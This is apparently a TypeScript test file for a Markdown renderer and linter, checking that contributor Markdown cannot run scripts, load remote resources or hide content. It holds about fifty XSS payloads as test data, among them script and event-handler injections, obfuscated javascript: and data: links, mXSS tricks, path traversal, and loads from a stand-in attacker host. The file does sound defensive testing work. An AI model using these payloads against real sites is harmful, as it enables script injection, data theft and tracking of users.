import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { lintMarkdown, renderMarkdown } from "../../src/markdown/index.ts";
import { assertHarmless, elementsOf } from "./safe-html.ts";

const render = (source: string): string => renderMarkdown(source, { lang: "fr", permalinks: true });

/** Each is refused by the check as well as made harmless by the renderer. */
const refused: string[] = [
  "<script>alert(1)</script>",
  "texte <script src=//evil.example></script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<details open ontoggle=alert(1)>",
  "<style>*{background:url(//evil.example)}</style>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<object data=evil.swf></object>",
  "<form action=//evil.example><button>x</button></form>",
  "<!-- commentaire -->",
  "<!DOCTYPE html>",
  "<?php echo 1 ?>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](java&Tab;script:alert(1))",
  "[x](java&NewLine;script:alert(1))",
  "[x](&#xA0;javascript:alert(1))",
  "[x](\\javascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](<java\tscript:alert(1)>)",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](DATA:image/svg+xml,<svg/onload=alert(1)>)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://hub.example/1)",
  "[x](//evil.example/)",
  "[x](https:evil.example)",
  "[x](&#x2F;&#x2F;evil.example)",
  "<javascript:alert(1)>",
  "<data:text/html,x>",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2Zy8+)",
  "![x](data:image/png;base64,AAAA)",
  "![x](https://evil.example/pixel.png)",
  "![x](//evil.example/pixel.png)",
  "![x](/media/../admin/secret.png)",
  "![x](/media/%2e%2e/secret.png)",
  "![x](/autre/image.png)",
  "[![x](https://evil.example/p.png)](https://exemple.org/)",
  "::: script alert(1)\n:::",
  "[x](&#1;javascript:alert(1))",
  "::: moment conferences/<script>alert(1)</script> t=1\n:::",
  "::: recording conferences/../admin\n:::",
];

describe("a contributor's Markdown cannot run, load or hide anything", () => {
  for (const source of refused) {
    test(`${JSON.stringify(source)} is harmless, and reported`, () => {
      assertHarmless(render(source));
      assert.ok(lintMarkdown(source).some(({ severity }) => severity === "error"));
    });
  }
});

/** Harmless as they are: nothing to report, but nothing may slip through either. */
const tolerated: string[] = [
  "[x](/\\evil.example/)",
  '![x](/media/a.png "\\" onload=alert(1)")',
  '![\\" onload=alert(1)](/media/a.png)',
  '[x](/a "\\" onclick=alert(1) x=\\"")',
  '[x](https://exemple.org/"onmouseover=alert(1))',
  "`<script>alert(1)</script>`",
  "```\n</code></pre><script>alert(1)</script>\n```",
  '```js" onload=alert(1)\nx\n```',
  '## Titre \\" onload=alert(1) &quot;',
  "## <",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "https://exemple.org/<script",
  '[^"onload]: note\n\nmot[^"onload]',
  "[^__proto__]: note\n\nmot[^__proto__] et [^constructor]",
  '|a|\n|:-:" onload=x|\n|b|',
  "[x](#constructor) [y](?t=1:30) [z](/a:b)",
];
describe("what is only odd stays harmless", () => {
  for (const source of tolerated) {
    test(JSON.stringify(source), () => {
      assertHarmless(render(source));
      const errors = lintMarkdown(source).filter(({ severity }) => severity === "error");
      assert.deepEqual(errors, []);
    });
  }
});

test("no link opens a window, and the page that is opened gets no handle on ours", () => {
  const links = elementsOf(
    render("[a](https://exemple.org/) <https://exemple.org/b> https://exemple.org/c [d](/d/)"),
  );
  const rels = links
    .filter(({ tagName }) => tagName === "a")
    .map(({ attrs }) => attrs.find(({ name }) => name === "rel")?.value);
  assert.deepEqual(rels, ["noopener", "noopener", "noopener", undefined]);
});
